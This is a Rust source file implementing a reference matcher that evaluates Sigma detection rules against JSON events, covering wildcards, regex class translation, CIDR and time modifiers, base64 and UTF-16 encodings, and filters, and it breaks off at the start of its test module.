//! The plain matcher: a detection rule evaluated on one event at a time, as the Sigma
//! specification says, with no attempt at speed. It is the reference the compiled (Hyperscan)
//! matcher is tested against, and the matcher for platforms without Hyperscan.
//!
//! Events are JSON objects; a field is looked up by its full dotted name first (`source.ip`
//! as one key), then as a path through nested objects. A field holding a list matches when
//! any element does.
//!
//! Every string comparison is a regular expression built from the rule's value: wildcards
//! (`*`, `?`, with `\` escapes) become `.*` and `.`, the rest is literal, anchored at both
//! ends unless `contains`/`startswith`/`endswith` say otherwise, ASCII case-insensitive unless
//! `cased`. Encodings (`base64`, `base64offset`, `wide`/`utf16le`, `utf16be`, `utf16`,
//! `windash`) turn one value into the variants it may appear as.

use std::borrow::Cow;
use std::collections::HashMap;
use std::net::IpAddr;

use regex::{Regex, RegexBuilder};
use rsigma_parser::{
    detection_name_matches, ConditionExpr, Detection, DetectionItem, Detections, Modifier,
    Quantifier, SelectorPattern, SigmaRule, SigmaString, SigmaValue, SpecialChar, StringPart,
};
use serde_json::Value;

use crate::iocs::Iocs;

/// One event as a matcher reads it.
pub trait Row {
    /// The value of a field (`None` when absent).
    fn field(&self, name: &str) -> Option<Cow<'_, Value>>;
    /// Whether the field is there with a value that is not null.
    fn has(&self, name: &str) -> bool {
        self.field(name).is_some_and(|v| !v.is_null())
    }
    /// Whether `f` is true for any of the strings keywords are searched in.
    fn any_keyword_text(&self, f: &mut dyn FnMut(&str) -> bool) -> bool;
}

/// A JSON event: fields by flat dotted name or nested path; keywords in every string.
impl Row for Value {
    fn field(&self, name: &str) -> Option<Cow<'_, Value>> {
        lookup(self, name).map(Cow::Borrowed)
    }

    fn any_keyword_text(&self, f: &mut dyn FnMut(&str) -> bool) -> bool {
        let mut strings = Vec::new();
        collect_strings(self, &mut strings);
        strings.into_iter().any(f)
    }
}

/// A detection rule ready to evaluate.
#[derive(Debug, Clone)]
pub struct PlainRule {
    pub(crate) detections: HashMap<String, Det>,
    pub(crate) conditions: Vec<ConditionExpr>,
}

#[derive(Debug, Clone)]
pub(crate) enum Det {
    /// A map: every item matches.
    AllOf(Vec<Item>),
    /// A list of maps: any matches.
    AnyOf(Vec<Det>),
    /// Every part matches.
    And(Vec<Det>),
}

#[derive(Debug, Clone)]
pub(crate) struct Item {
    /// `None`: keywords, searched in every string of the event.
    pub field: Option<String>,
    pub matchers: Vec<Matcher>,
    /// `|all`: every value must match (else any).
    pub all: bool,
}

#[derive(Debug, Clone)]
pub(crate) enum Matcher {
    /// Any of these patterns matches a string value (variants of one rule value).
    Text(Vec<TextPattern>),
    /// A regular expression (`|re`), searched anywhere; its flags are part of its text.
    Regex(Box<SigmaRegex>),
    Number(f64),
    Bool(bool),
    /// The field is absent or null.
    Null,
    Cidr(IpAddr, u8),
    Compare(Modifier, f64),
    Exists(bool),
    /// Equal to another field of the event (cased?, or different with `neq`).
    FieldRef(String, bool, bool),
    /// A part of a time (`|hour`, …) equal to a number.
    TimePart(Modifier, i64),
}

/// A rule's regular expression (`|re`) in the two readings Canh runs: Hyperscan's and the
/// `regex` crate's. The specification names PCRE's flavour, so `\w`, `\d`, `\s` and `\b` are
/// ASCII classes as in PCRE without its UCP option (and in RE2, which ClickHouse runs); the
/// `regex` crate reads them as Unicode classes unless told otherwise.
#[derive(Debug, Clone)]
pub(crate) struct SigmaRegex {
    /// The pattern as the rule writes it, its flags in front: PCRE syntax, for Hyperscan.
    pub pcre: String,
    /// The same pattern with its classes spelled as ASCII classes, for the `regex` crate.
    pub regex: Regex,
}

/// A PCRE pattern's shorthand classes as the `regex` crate's ASCII classes: `\w` as
/// `[[:word:]]`, `\D` as `[[:^digit:]]`, inside a bracket `[\w.]` as `[[:word:].]`, `\b` as
/// `(?-u:\b)`. Everything else is left as written.
pub(crate) fn ascii_classes(pcre: &str) -> String {
    let mut out = String::with_capacity(pcre.len() + 16);
    let mut chars = pcre.chars().peekable();
    // Inside a bracket expression, and whether a `]` there would still be a literal (first).
    let mut in_class = false;
    let mut class_start = false;
    while let Some(c) = chars.next() {
        match c {
            '\\' => {
                let Some(e) = chars.next() else {
                    out.push(c);
                    break;
                };
                let posix = match e {
                    'w' => Some("word"),
                    'W' => Some("^word"),
                    'd' => Some("digit"),
                    'D' => Some("^digit"),
                    's' => Some("space"),
                    'S' => Some("^space"),
                    _ => None,
                };
                match (posix, e) {
                    (Some(name), _) if in_class => {
                        out.push_str("[:");
                        out.push_str(name);
                        out.push_str(":]");
                    }
                    (Some(name), _) => {
                        out.push_str("[[:");
                        out.push_str(name);
                        out.push_str(":]]");
                    }
                    (None, 'b' | 'B') if !in_class => {
                        out.push_str("(?-u:\\");
                        out.push(e);
                        out.push(')');
                    }
                    _ => {
                        out.push(c);
                        out.push(e);
                    }
                }
                class_start = false;
            }
            '[' if !in_class => {
                out.push(c);
                in_class = true;
                class_start = true;
                if chars.peek() == Some(&'^') {
                    out.push('^');
                    chars.next();
                }
            }
            '[' if chars.peek() == Some(&':') => {
                // A POSIX class inside a bracket: copied whole, so its `]` does not close it.
                out.push(c);
                for p in chars.by_ref() {
                    out.push(p);
                    if p == ']' {
                        break;
                    }
                }
                class_start = false;
            }
            ']' if in_class && !class_start => {
                out.push(c);
                in_class = false;
            }
            _ => {
                out.push(c);
                class_start = false;
            }
        }
    }
    out
}

/// One form a rule's text value may take in an event: the reference regular expression and
/// the same pattern as a Hyperscan expression over one line of a scan buffer.
///
/// Case-insensitive means ASCII case-insensitive, here and in Hyperscan (whose `CASELESS`
/// folds ASCII only), so that both matchers give the same answer on any text.
#[derive(Debug, Clone)]
pub(crate) struct TextPattern {
    /// The reference regular expression's text; the expression itself is built the first time
    /// it is used (most never are: the compiled matcher settles most values without it).
    pub source: String,
    regex: std::sync::OnceLock<Option<Regex>>,
    /// The pattern for Hyperscan in multi-line mode (`^`/`$` at line ends, `.` not crossing
    /// lines), bytes escaped; `None` when the value matches any text at all (`*`).
    pub hs: Option<String>,
    pub caseless: bool,
    /// A Hyperscan hit is a match without confirming it with `regex` (no `?` wildcard, whose
    /// one character may be one to four bytes).
    pub exact: bool,
    /// The whole value, when the pattern is "equal to this text" (no wildcard, no open end):
    /// matched by a hash lookup, ASCII-lowercased when caseless.
    pub literal: Option<String>,
    /// The longest run of fixed bytes in the value (no wildcard in it): how rare a hit is
    /// likely to be, for choosing which atoms trigger a rule.
    pub fixed: usize,
    /// Whether an empty text matches (known without building the regular expression).
    #[cfg_attr(not(feature = "hyperscan"), allow(dead_code))]
    pub empty: bool,
}

/// Patterns longer than this are built when the rule is compiled, so that one too large for
/// the `regex` crate's limit rejects the rule; shorter ones are far below it.
const EAGER_REGEX: usize = 4096;

impl TextPattern {
    /// The reference regular expression (`None`: too large to build, which rules are checked
    /// against when compiled).
    pub(crate) fn regex(&self) -> Option<&Regex> {
        self.regex
            .get_or_init(|| build_regex(&self.source).ok())
            .as_ref()
    }
}

fn build_regex(source: &str) -> Result<Regex, String> {
    RegexBuilder::new(source)
        .size_limit(1 << 24)
        .build()
        .map_err(|e| e.to_string())
}

/// Builds the plain matcher for a rule, or says why it cannot run.
pub fn compile(rule: &SigmaRule) -> Result<PlainRule, String> {
    compile_detections(&rule.detection, &Iocs::default())
}

/// The plain matcher for a detection section (of a rule or a filter), placeholders filled
/// from IOC lists.
pub fn compile_detections(d: &Detections, iocs: &Iocs) -> Result<PlainRule, String> {
    let mut detections = HashMap::new();
    for (name, d) in &d.named {
        detections.insert(
            name.clone(),
            detection(d, iocs).map_err(|e| format!("{name}: {e}"))?,
        );
    }
    Ok(PlainRule {
        detections,
        conditions: d.conditions.clone(),
    })
}

impl PlainRule {
    /// Whether the event matches any of the rule's conditions.
    pub fn matches(&self, event: &dyn Row) -> bool {
        let mut memo: HashMap<&str, bool> = HashMap::new();
        self.conditions
            .iter()
            .any(|c| self.condition(c, event, &mut memo))
    }

    /// Adds a filter (Sigma filters): the rule then matches only where the filter does not.
    /// The filter's detections join the rule's under reserved names starting with `prefix`.
    pub(crate) fn exclude(&mut self, filter: PlainRule, prefix: &str) {
        fn rename(c: &ConditionExpr, prefix: &str) -> ConditionExpr {
            match c {
                ConditionExpr::And(v) => {
                    ConditionExpr::And(v.iter().map(|c| rename(c, prefix)).collect())
                }
                ConditionExpr::Or(v) => {
                    ConditionExpr::Or(v.iter().map(|c| rename(c, prefix)).collect())
                }
                ConditionExpr::Not(c) => ConditionExpr::Not(Box::new(rename(c, prefix))),
                ConditionExpr::Identifier(id) => ConditionExpr::Identifier(format!("{prefix}{id}")),
                ConditionExpr::Selector {
                    quantifier,
                    pattern,
                } => ConditionExpr::Selector {
                    quantifier: quantifier.clone(),
                    pattern: SelectorPattern::Pattern(match pattern {
                        SelectorPattern::Them => format!("{prefix}*"),
                        SelectorPattern::Pattern(p) => format!("{prefix}{p}"),
                    }),
                },
            }
        }
        let PlainRule {
            detections,
            conditions,
        } = filter;
        for (name, d) in detections {
            self.detections.insert(format!("{prefix}{name}"), d);
        }
        let any = ConditionExpr::Or(conditions.iter().map(|c| rename(c, prefix)).collect());
        for c in &mut self.conditions {
            let rule = std::mem::replace(c, ConditionExpr::Or(Vec::new()));
            *c = ConditionExpr::And(vec![rule, ConditionExpr::Not(Box::new(any.clone()))]);
        }
    }

    /// Renames the fields the rule reads (field mapping); `None` leaves a name as it is.
    pub(crate) fn rename_fields(&mut self, f: &dyn Fn(&str) -> Option<String>) {
        fn det(d: &mut Det, f: &dyn Fn(&str) -> Option<String>) {
            match d {
                Det::AllOf(items) => {
                    for i in items {
                        if let Some(new) = i.field.as_deref().and_then(f) {
                            i.field = Some(new);
                        }
                        for m in &mut i.matchers {
                            if let Matcher::FieldRef(other, ..) = m {
                                if let Some(new) = f(other) {
                                    *other = new;
                                }
                            }
                        }
                    }
                }
                Det::AnyOf(ds) | Det::And(ds) => ds.iter_mut().for_each(|d| det(d, f)),
            }
        }
        self.detections.values_mut().for_each(|d| det(d, f));
    }

    /// Names of the detections a selector (`1 of sel_*`, `them`) covers, sorted.
    pub(crate) fn selected<'a>(&'a self, pattern: &SelectorPattern) -> Vec<&'a str> {
        let mut names: Vec<&str> = self
            .detections
            .keys()
            .map(String::as_str)
            // What the field mapping and filters add is not the rule's to select (a filter's
            // own selectors are renamed into the reserved names).
            .filter(|n| {
                !n.starts_with(crate::mapping::RESERVED)
                    || matches!(pattern, SelectorPattern::Pattern(p) if p.starts_with(crate::mapping::RESERVED))
            })
            .filter(|n| match pattern {
                // `them`: every detection except those named with a leading `_`.
                SelectorPattern::Them => !n.starts_with('_'),
                SelectorPattern::Pattern(p) => detection_name_matches(p, n),
            })
            .collect();
        names.sort_unstable();
        names
    }

    fn named<'a>(
        &'a self,
        name: &'a str,
        event: &dyn Row,
        memo: &mut HashMap<&'a str, bool>,
    ) -> bool {
        if let Some(&m) = memo.get(name) {
            return m;
        }
        let m = self.detections.get(name).is_some_and(|d| d.matches(event));
        memo.insert(name, m);
        m
    }

    fn condition<'a>(
        &'a self,
        c: &'a ConditionExpr,
        event: &dyn Row,
        memo: &mut HashMap<&'a str, bool>,
    ) -> bool {
        match c {
            ConditionExpr::And(v) => v.iter().all(|c| self.condition(c, event, memo)),
            ConditionExpr::Or(v) => v.iter().any(|c| self.condition(c, event, memo)),
            ConditionExpr::Not(c) => !self.condition(c, event, memo),
            ConditionExpr::Identifier(id) => self.named(id, event, memo),
            ConditionExpr::Selector {
                quantifier,
                pattern,
            } => {
                let names = self.selected(pattern);
                let hits = names.iter().filter(|n| self.named(n, event, memo)).count();
                match quantifier {
                    Quantifier::Any => hits >= 1,
                    Quantifier::All => hits == names.len(),
                    Quantifier::Count(n) => hits as u64 >= *n,
                }
            }
        }
    }
}

impl Det {
    fn matches(&self, event: &dyn Row) -> bool {
        match self {
            Det::AllOf(items) => items.iter().all(|i| i.matches(event)),
            Det::AnyOf(ds) => ds.iter().any(|d| d.matches(event)),
            Det::And(ds) => ds.iter().all(|d| d.matches(event)),
        }
    }
}

impl Item {
    fn matches(&self, event: &dyn Row) -> bool {
        let one = |m: &Matcher| match &self.field {
            None => event.any_keyword_text(&mut |s| m.text(s)),
            Some(field) => m.matches(event.field(field).as_deref(), event),
        };
        if self.all {
            self.matchers.iter().all(one)
        } else {
            self.matchers.iter().any(one)
        }
    }
}

impl Matcher {
    /// Whether the matcher holds for a field's value (`None`: absent) in an event.
    pub(crate) fn matches(&self, value: Option<&Value>, event: &dyn Row) -> bool {
        match self {
            Matcher::Null => matches!(value, None | Some(Value::Null)),
            Matcher::Exists(want) => value.is_some_and(|v| !v.is_null()) == *want,
            Matcher::FieldRef(other, cased, differ) => match (value, event.field(other)) {
                (Some(a), Some(b)) => {
                    let equal = any_scalar(a, &mut |a| {
                        any_scalar(&b, &mut |b| match (text_of(a), text_of(b)) {
                            (Some(x), Some(y)) if *cased => x == y,
                            (Some(x), Some(y)) => x.eq_ignore_ascii_case(&y),
                            _ => false,
                        })
                    });
                    equal != *differ
                }
                _ => false,
            },
            _ => value.is_some_and(|v| any_scalar(v, &mut |s| self.scalar(s))),
        }
    }

    fn scalar(&self, v: &Value) -> bool {
        match self {
            Matcher::Text(_) | Matcher::Regex(_) => text_of(v).is_some_and(|t| self.text(&t)),
            Matcher::Number(n) => match v {
                Value::Number(x) => x.as_f64() == Some(*n),
                Value::String(s) => s.trim().parse::<f64>().ok() == Some(*n),
                _ => false,
            },
            Matcher::Bool(b) => match v {
                Value::Bool(x) => x == b,
                Value::String(s) => s.eq_ignore_ascii_case(if *b { "true" } else { "false" }),
                _ => false,
            },
            Matcher::Cidr(net, len) => match v {
                Value::String(s) => s
                    .trim()
                    .parse::<IpAddr>()
                    .is_ok_and(|ip| in_net(ip, *net, *len)),
                _ => false,
            },
            Matcher::Compare(op, n) => number_of(v).is_some_and(|x| compare(*op, x, *n)),
            Matcher::TimePart(part, n) => time_part(v, *part) == Some(*n),
            Matcher::Null | Matcher::Exists(_) | Matcher::FieldRef(..) => false,
        }
    }

    /// Whether a text value matches (false for matchers that are not about text).
    pub(crate) fn text(&self, s: &str) -> bool {
        match self {
            Matcher::Text(variants) => variants
                .iter()
                .any(|p| p.regex().is_some_and(|r| r.is_match(s))),
            Matcher::Regex(r) => r.regex.is_match(s),
            _ => false,
        }
    }
}

/// `x op n` for the comparison modifiers.
pub(crate) fn compare(op: Modifier, x: f64, n: f64) -> bool {
    match op {
        Modifier::Gt => x > n,
        Modifier::Gte => x >= n,
        Modifier::Lt => x < n,
        Modifier::Neq => x != n,
        _ => x <= n,
    }
}

/// Calls `f` on a scalar, or on each element of a list; true if any call is.
pub(crate) fn any_scalar(v: &Value, f: &mut dyn FnMut(&Value) -> bool) -> bool {
    match v {
        Value::Array(items) => items.iter().any(|i| any_scalar(i, f)),
        v => f(v),
    }
}

pub(crate) fn text_of(v: &Value) -> Option<String> {
    match v {
        Value::String(s) => Some(s.clone()),
        Value::Number(n) => Some(n.to_string()),
        Value::Bool(b) => Some(b.to_string()),
        _ => None,
    }
}

pub(crate) fn number_of(v: &Value) -> Option<f64> {
    match v {
        Value::Number(n) => n.as_f64(),
        Value::String(s) => s.trim().parse().ok(),
        _ => None,
    }
}

/// A field by its dotted name: a flat key first, then a path through nested objects, then
/// the vendor fields (`vendor_fields`, where Canh keeps what has no ECS name).
pub fn lookup<'a>(event: &'a Value, field: &str) -> Option<&'a Value> {
    if let Some(v) = event.get(field) {
        return Some(v);
    }
    let path = || {
        let mut cur = event;
        for part in field.split('.') {
            cur = cur.get(part)?;
        }
        Some(cur)
    };
    path().or_else(|| event.get("vendor_fields")?.get(field))
}

pub(crate) fn collect_strings<'a>(v: &'a Value, out: &mut Vec<&'a str>) {
    match v {
        Value::String(s) => out.push(s),
        Value::Array(items) => items.iter().for_each(|i| collect_strings(i, out)),
        Value::Object(m) => m.values().for_each(|i| collect_strings(i, out)),
        _ => {}
    }
}

pub(crate) fn in_net(ip: IpAddr, net: IpAddr, len: u8) -> bool {
    match (ip, net) {
        (IpAddr::V4(a), IpAddr::V4(n)) => {
            let mask = u32::MAX.checked_shl(32 - u32::from(len)).unwrap_or(0);
            u32::from(a) & mask == u32::from(n) & mask
        }
        (IpAddr::V6(a), IpAddr::V6(n)) => {
            let mask = u128::MAX.checked_shl(128 - u32::from(len)).unwrap_or(0);
            u128::from(a) & mask == u128::from(n) & mask
        }
        _ => false,
    }
}

pub(crate) fn time_part(v: &Value, part: Modifier) -> Option<i64> {
    let t: jiff::Timestamp = match v {
        Value::String(s) => s.trim().parse().ok()?,
        Value::Number(n) => jiff::Timestamp::from_second(n.as_i64()?).ok()?,
        _ => return None,
    };
    let d = t.to_zoned(jiff::tz::TimeZone::UTC);
    Some(match part {
        Modifier::Minute => i64::from(d.minute()),
        Modifier::Hour => i64::from(d.hour()),
        Modifier::Day => i64::from(d.day()),
        Modifier::Week => i64::from(d.date().iso_week_date().week()),
        Modifier::Month => i64::from(d.month()),
        _ => i64::from(d.year()),
    })
}

fn detection(d: &Detection, iocs: &Iocs) -> Result<Det, String> {
    let all = |ds: &[Detection]| {
        ds.iter()
            .map(|d| detection(d, iocs))
            .collect::<Result<_, _>>()
    };
    Ok(match d {
        Detection::AllOf(items) => Det::AllOf(
            items
                .iter()
                .map(|i| item(i, iocs))
                .collect::<Result<_, _>>()?,
        ),
        Detection::AnyOf(ds) => Det::AnyOf(all(ds)?),
        Detection::And(ds) => Det::And(all(ds)?),
        // Keywords are searched for inside the event's text: contained, not equal.
        Detection::Keywords(values) => Det::AllOf(vec![Item {
            field: None,
            matchers: values
                .iter()
                .map(|v| value(v, &[Modifier::Contains]))
                .collect::<Result<_, _>>()?,
            all: false,
        }]),
        Detection::ArrayMatch { .. } | Detection::Conditional { .. } => {
            return Err("array and conditional blocks are an rsigma extension, not Sigma".into())
        }
    })
}

fn item(i: &DetectionItem, iocs: &Iocs) -> Result<Item, String> {
    let mut modifiers = i.field.modifiers.clone();
    let field = i.field.name.clone();
    let label = field.as_deref().unwrap_or("keywords");
    if field.is_none()
        && !modifiers.iter().any(|m| {
            matches!(
                m,
                Modifier::Contains | Modifier::StartsWith | Modifier::EndsWith | Modifier::Re
            )
        })
    {
        // Keywords (`'|all'` and the like) are searched for inside the event's text.
        modifiers.push(Modifier::Contains);
    }
    let expanded;
    let values = if modifiers.contains(&Modifier::Expand) {
        modifiers.retain(|m| *m != Modifier::Expand);
        expanded = i
            .values
            .iter()
            .map(|v| iocs.expand(v))
            .collect::<Result<Vec<Vec<SigmaValue>>, _>>()
            .map_err(|e| format!("{label}: {e}"))?
            .concat();
        &expanded
    } else {
        &i.values
    };
    let matchers = if i.values.is_empty() {
        vec![Matcher::Null]
    } else {
        values
            .iter()
            .map(|v| value(v, &modifiers).map_err(|e| format!("{label}: {e}")))
            .collect::<Result<_, _>>()?
    };
    Ok(Item {
        field,
        matchers,
        all: modifiers.contains(&Modifier::All),
    })
}

fn value(v: &SigmaValue, modifiers: &[Modifier]) -> Result<Matcher, String> {
    let has = |m: Modifier| modifiers.contains(&m);
    if has(Modifier::Exists) {
        return match v {
            SigmaValue::Bool(b) => Ok(Matcher::Exists(*b)),
            SigmaValue::String(s) if s.original.eq_ignore_ascii_case("true") => {
                Ok(Matcher::Exists(true))
            }
            SigmaValue::String(s) if s.original.eq_ignore_ascii_case("false") => {
                Ok(Matcher::Exists(false))
            }
            _ => Err(format!("|exists needs true or false, not {v:?}")),
        };
    }
    if has(Modifier::FieldRef) {
        let other = match v {
            SigmaValue::String(s) => s.original.clone(),
            _ => return Err(format!("|fieldref needs a field name, not {v:?}")),
        };
        return Ok(Matcher::FieldRef(
            other,
            has(Modifier::Cased),
            has(Modifier::Neq),
        ));
    }
    if let Some(&op) = modifiers.iter().find(|m| {
        matches!(
            m,
            Modifier::Gt | Modifier::Gte | Modifier::Lt | Modifier::Lte | Modifier::Neq
        )
    }) {
        let n = match v {
            SigmaValue::Integer(n) => *n as f64,
            SigmaValue::Float(f) => *f,
            SigmaValue::String(s) => s
                .original
                .trim()
                .parse()
                .map_err(|_| format!("a comparison needs a number, not '{}'", s.original))?,
            _ => return Err(format!("a comparison needs a number, not {v:?}")),
        };
        return Ok(Matcher::Compare(op, n));
    }
    if let Some(&part) = modifiers.iter().find(|m| {
        matches!(
            m,
            Modifier::Minute
                | Modifier::Hour
                | Modifier::Day
                | Modifier::Week
                | Modifier::Month
                | Modifier::Year
        )
    }) {
        return match v {
            SigmaValue::Integer(n) => Ok(Matcher::TimePart(part, *n)),
            _ => Err(format!("a time part needs a whole number, not {v:?}")),
        };
    }
    let s = match v {
        SigmaValue::Null => return Ok(Matcher::Null),
        SigmaValue::Bool(b) if modifiers.is_empty() => return Ok(Matcher::Bool(*b)),
        SigmaValue::Integer(n) if modifiers.is_empty() => return Ok(Matcher::Number(*n as f64)),
        SigmaValue::Float(f) if modifiers.is_empty() => return Ok(Matcher::Number(*f)),
        SigmaValue::String(s) => s.clone(),
        SigmaValue::Integer(n) => SigmaString::new(&n.to_string()),
        SigmaValue::Float(f) => SigmaString::new(&f.to_string()),
        SigmaValue::Bool(b) => SigmaString::new(&b.to_string()),
    };
    let cased = has(Modifier::Cased);
    if has(Modifier::Re) {
        // The flags are written into the pattern so that its text says all it does.
        let flags: String = [
            (Modifier::IgnoreCase, 'i'),
            (Modifier::Multiline, 'm'),
            (Modifier::DotAll, 's'),
        ]
        .iter()
        .filter(|(m, _)| has(*m))
        .map(|(_, c)| *c)
        .collect();
        let pattern = if flags.is_empty() {
            s.original.clone()
        } else {
            format!("(?{flags}){}", s.original)
        };
        let r = RegexBuilder::new(&ascii_classes(&pattern))
            .size_limit(1 << 24)
            .build()
            .map_err(|e| {
                // The regex crate's message ends with the reason, after a diagram.
                let e = e.to_string();
                let reason = e.lines().last().unwrap_or("").trim();
                let reason = reason.strip_prefix("error: ").unwrap_or(reason);
                format!("regular expression '{}': {reason}", s.original)
            })?;
        return Ok(Matcher::Regex(Box::new(SigmaRegex {
            pcre: pattern,
            regex: r,
        })));
    }
    if has(Modifier::Cidr) {
        let (addr, len) = s.original.split_once('/').unwrap_or((&s.original, ""));
        let net: IpAddr = addr
            .trim()
            .parse()
            .map_err(|_| format!("'{}' is not a CIDR", s.original))?;
        let max = if net.is_ipv4() { 32 } else { 128 };
        let len = if len.is_empty() {
            max
        } else {
            len.trim()
                .parse::<u8>()
                .ok()
                .filter(|l| *l <= max)
                .ok_or_else(|| format!("'{}' is not a CIDR", s.original))?
        };
        return Ok(Matcher::Cidr(net, len));
    }
    // Text: the variants the value may appear as, then the pattern around each.
    let mut variants: Vec<Vec<StringPart>> = vec![s.parts.clone()];
    if has(Modifier::WindAsh) {
        variants = variants.iter().flat_map(|p| windash(p)).collect();
    }
    let encodings = [
        Modifier::Wide,
        Modifier::Utf16be,
        Modifier::Utf16,
        Modifier::Base64,
        Modifier::Base64Offset,
    ];
    if encodings.iter().any(|&m| has(m)) {
        let mut encoded = Vec::new();
        for parts in &variants {
            let plain = plain_text(parts).ok_or("wildcards cannot be encoded")?;
            let bytes = if has(Modifier::Wide) {
                plain.encode_utf16().flat_map(u16::to_le_bytes).collect()
            } else if has(Modifier::Utf16be) {
                plain.encode_utf16().flat_map(u16::to_be_bytes).collect()
            } else if has(Modifier::Utf16) {
                let mut b = vec![0xff, 0xfe];
                b.extend(plain.encode_utf16().flat_map(u16::to_le_bytes));
                b
            } else {
                plain.into_bytes()
            };
            if has(Modifier::Base64Offset) {
                encoded.extend(base64_offsets(&bytes));
            } else if has(Modifier::Base64) {
                encoded.push(base64(&bytes));
            } else {
                // UTF-16 without base64: the text as it would be decoded back.
                encoded.push(String::from_utf8_lossy(&bytes).into_owned());
            }
        }
        variants = encoded
            .into_iter()
            .map(|e| vec![StringPart::Plain(e)])
            .collect();
    }
    let (lead, trail) = (
        has(Modifier::Contains) || has(Modifier::EndsWith),
        has(Modifier::Contains) || has(Modifier::StartsWith),
    );
    let patterns = variants
        .iter()
        .map(|parts| text_pattern(parts, lead, trail, !cased))
        .collect::<Result<_, _>>()?;
    Ok(Matcher::Text(patterns))
}

/// The pattern for one variant of a text value: `lead`/`trail` say whether anything may come
/// before or after it (`contains`, `endswith`, `startswith`).
fn text_pattern(
    parts: &[StringPart],
    mut lead: bool,
    mut trail: bool,
    caseless: bool,
) -> Result<TextPattern, String> {
    // A `*` at either end is the same as an open end.
    let mut parts = parts;
    while let [StringPart::Special(SpecialChar::WildcardMulti), rest @ ..] = parts {
        (lead, parts) = (true, rest);
    }
    while let [rest @ .., StringPart::Special(SpecialChar::WildcardMulti)] = parts {
        (trail, parts) = (true, rest);
    }
    let (mut re, mut hs) = (String::from("(?s)"), String::new());
    if !lead {
        re.push('^');
        hs.push('^');
    }
    let mut exact = true;
    for part in parts {
        match part {
            StringPart::Plain(t) => {
                for c in t.chars() {
                    if caseless && c.is_ascii_alphabetic() {
                        re.extend(['[', c.to_ascii_lowercase(), c.to_ascii_uppercase(), ']']);
                    } else {
                        re.push_str(&regex::escape(c.encode_utf8(&mut [0; 4])));
                    }
                }
                for &b in t.as_bytes() {
                    if b.is_ascii_alphanumeric() {
                        hs.push(char::from(b));
                    } else {
                        hs.push_str(&format!("\\x{b:02x}"));
                    }
                }
            }
            StringPart::Special(SpecialChar::WildcardMulti) => {
                re.push_str(".*");
                hs.push_str(".*");
            }
            StringPart::Special(SpecialChar::WildcardSingle) => {
                re.push('.');
                // One character is one to four bytes of UTF-8: a superset, confirmed after.
                hs.push_str(".{1,4}");
                exact = false;
            }
        }
    }
    if !trail {
        re.push('$');
        hs.push('$');
    }
    let regex = std::sync::OnceLock::new();
    if re.len() > EAGER_REGEX {
        let _ = regex.set(Some(build_regex(&re)?));
    }
    let empty = parts.iter().all(|p| match p {
        StringPart::Plain(t) => t.is_empty(),
        StringPart::Special(SpecialChar::WildcardMulti) => true,
        StringPart::Special(SpecialChar::WildcardSingle) => false,
    });
    let literal = if lead || trail {
        None
    } else {
        parts
            .iter()
            .map(|p| match p {
                StringPart::Plain(t) => Some(t.as_str()),
                StringPart::Special(_) => None,
            })
            .collect::<Option<String>>()
            .map(|t| if caseless { t.to_ascii_lowercase() } else { t })
    };
    let fixed = parts
        .iter()
        .map(|p| match p {
            StringPart::Plain(t) => t.len(),
            StringPart::Special(_) => 0,
        })
        .max()
        .unwrap_or(0);
    Ok(TextPattern {
        fixed,
        source: re,
        regex,
        empty,
        hs: (!(lead && trail && parts.is_empty())).then_some(hs),
        caseless,
        exact,
        literal,
    })
}

fn plain_text(parts: &[StringPart]) -> Option<String> {
    parts
        .iter()
        .map(|p| match p {
            StringPart::Plain(t) => Some(t.as_str()),
            StringPart::Special(_) => None,
        })
        .collect()
}

/// `windash`: a `-` or `/` at the start of a word may be any of the dashes Windows accepts.
fn windash(parts: &[StringPart]) -> Vec<Vec<StringPart>> {
    const DASHES: [char; 5] = ['-', '/', '–', '—', '―'];
    let mut out: Vec<Vec<StringPart>> = vec![Vec::new()];
    let mut prev_space = true;
    for part in parts {
        match part {
            StringPart::Plain(t) => {
                let mut texts = vec![String::new()];
                for c in t.chars() {
                    if (c == '-' || c == '/') && prev_space && texts.len() < 625 {
                        texts = texts
                            .iter()
                            .flat_map(|s| DASHES.iter().map(move |d| format!("{s}{d}")))
                            .collect();
                    } else {
                        texts.iter_mut().for_each(|s| s.push(c));
                    }
                    prev_space = c.is_whitespace();
                }
                out = out
                    .iter()
                    .flat_map(|o| {
                        texts.iter().map(move |t| {
                            let mut o = o.clone();
                            o.push(StringPart::Plain(t.clone()));
                            o
                        })
                    })
                    .collect();
            }
            special => {
                prev_space = false;
                out.iter_mut().for_each(|o| o.push(special.clone()));
            }
        }
    }
    out
}

fn base64(bytes: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(A[(n >> (18 - 6 * i) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// `base64offset`: the value's base64 at each of the three alignments it can have inside a
/// longer encoded text, without the characters that depend on its neighbours (pySigma's
/// algorithm).
fn base64_offsets(bytes: &[u8]) -> Vec<String> {
    (0..3)
        .map(|i| {
            let mut shifted = vec![b' '; i];
            shifted.extend_from_slice(bytes);
            let e = base64(&shifted);
            let start = [0, 2, 3][i];
            let cut = [0, 3, 2][(bytes.len() + i) % 3];
            e.get(start..e.len() - cut).unwrap_or_default().to_owned()
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    /// A rule in both matchers: every answer is checked to be the same in each.
    struct Both(PlainRule, crate::compiled::Compiled);

    impl Both {
        fn matches(&self, event: &Value) -> bool {
            let plain = self.0.matches(event);
            let events = [event.clone()];
            let mut out = Vec::new();
            let c = &self.1;
            let json = crate::lines::JsonLines::of(&events, &c.fields(), c.keywords());
            c.matches(&json, &mut c.scratch(), &mut out);
            assert_eq!(
                plain,
                !out.is_empty(),
                "plain and compiled differ on {event}"
            );
            plain
        }
    }

    fn rule(detection: &str) -> Both {
        let yaml = format!("title: t\nlogsource: {{product: linux}}\ndetection:\n{detection}");
        let c = rsigma_parser::parse_sigma_yaml(&yaml).expect("yaml");
        assert!(c.errors.is_empty(), "{:?}", c.errors);
        let plain = compile(&c.rules[0]).expect("compiles");
        let compiled =
            crate::compiled::Compiled::new(vec![compile(&c.rules[0]).expect("compiles")]);
        Both(plain, compiled)
    }

    #[test]
